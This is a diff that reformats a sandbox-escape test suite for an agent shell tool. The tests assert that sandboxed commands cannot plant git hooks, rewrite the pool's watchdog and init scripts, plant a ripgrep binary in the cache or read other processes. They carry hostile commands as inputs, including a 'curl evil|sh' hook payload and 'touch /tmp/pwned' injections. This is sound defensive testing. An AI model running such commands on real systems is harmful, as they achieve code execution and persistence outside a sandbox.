@@ -45,7 +45,9 @@ describe("what a sandboxed command cannot do", () => {
 
   it("write the workspace's git hooks or git config (run later, outside the sandbox); git's other files it can", async () => {
     h = await sandboxHarness();
-    const r = await h.run("echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core]fsmonitor=x' >> .git/config; touch .git/index && echo index");
+    const r = await h.run(
+      "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core]fsmonitor=x' >> .git/config; touch .git/index && echo index",
+    );
     expect(r.output).toContain("index\n");
     expect(existsSync(join(h.ws, ".git/hooks/pre-commit"))).toBe(false);
     expect(readFileSync(join(h.ws, ".git/config"), "utf8")).toBe("[core]\n");
@@ -83,7 +85,9 @@ describe("what a sandboxed command cannot do", () => {
     try {
       const curl = trustedBinary("curl");
       // bash cannot open a Unix socket; curl can, where there is one.
-      const probe = curl ? `${curl} -s -m 5 --unix-socket ${sock} http://x/; echo` : `test -S ${sock} && echo socket || echo none`;
+      const probe = curl
+        ? `${curl} -s -m 5 --unix-socket ${sock} http://x/; echo`
+        : `test -S ${sock} && echo socket || echo none`;
       const r = await h.run(probe);
       expect(r.output).not.toContain(curl ? "answered" : "socket");
       expect(accepted).toBe(0);
@@ -96,12 +100,25 @@ describe("what a sandboxed command cannot do", () => {
   it("plant the ripgrep synapse runs unconfined, even when the workspace is the home folder", async () => {
     const dir = realpathSync(mkdtempSync(join(testBase(), "synapse-sandbox-cache-")));
     const cacheDir = join(dir, ".cache", "synapse");
-    const state = await sandboxState({ mode: "workspace-write", network: false, bwrapPath: process.env.SYNAPSE_BWRAP || undefined });
+    const state = await sandboxState({
+      mode: "workspace-write",
+      network: false,
+      bwrapPath: process.env.SYNAPSE_BWRAP || undefined,
+    });
     const config = { ...TEST_CONFIG, env: { PATH: "/usr/bin:/bin", HOME: dir } };
-    const plan = sandboxPlan({ cwd: dir, addDirs: [], home: join(dir, "data"), configDir: join(dir, "cfg"), cacheDir, shell: config }, state, dir);
+    const plan = sandboxPlan(
+      { cwd: dir, addDirs: [], home: join(dir, "data"), configDir: join(dir, "cfg"), cacheDir, shell: config },
+      state,
+      dir,
+    );
     const pool = createShellPool(config, plan);
     try {
-      const r = await pool.run({ command: `echo planted > ${cacheDir}/rg-0123; echo done`, cwd: dir, taskId: "main", timeoutMs: 10_000 });
+      const r = await pool.run({
+        command: `echo planted > ${cacheDir}/rg-0123; echo done`,
+        cwd: dir,
+        taskId: "main",
+        timeoutMs: 10_000,
+      });
       expect(r.output).toContain("done");
       expect(existsSync(join(cacheDir, "rg-0123"))).toBe(false);
     } finally {
@@ -112,7 +129,9 @@ describe("what a sandboxed command cannot do", () => {
 
   it("rewrite the pool's own scripts: the watchdog runs outside the sandbox, the init script in every new shell", async () => {
     h = await sandboxHarness();
-    const r = await h.run('d=${__sy_r%/*}; echo "$d"; for f in watchdog.sh init.sh; do echo "touch /tmp/pwned" >> "$d/$f"; done');
+    const r = await h.run(
+      'd=${__sy_r%/*}; echo "$d"; for f in watchdog.sh init.sh; do echo "touch /tmp/pwned" >> "$d/$f"; done',
+    );
     const dir = r.output.split("\n")[0]!;
     expect(dir).toStartWith("/");
     expect(readFileSync(join(dir, "watchdog.sh"), "utf8")).toBe(WATCHDOG_SCRIPT);
@@ -122,7 +141,9 @@ describe("what a sandboxed command cannot do", () => {
   it("see synapse: its processes are not in /proc, and there is no terminal to write to or type into", async () => {
     h = await sandboxHarness();
     const self = readFileSync("/proc/self/cmdline", "latin1").replaceAll("\0", " ").trim();
-    const r = await h.run("cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; (exec 3</dev/tty) 2>/dev/null && echo tty || echo no-tty");
+    const r = await h.run(
+      "cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; (exec 3</dev/tty) 2>/dev/null && echo tty || echo no-tty",
+    );
     expect(r.output).toContain("no-tty\n");
     expect(r.output).not.toContain(self);
     expect(r.output).not.toContain("sandboxed-shell.test.ts");
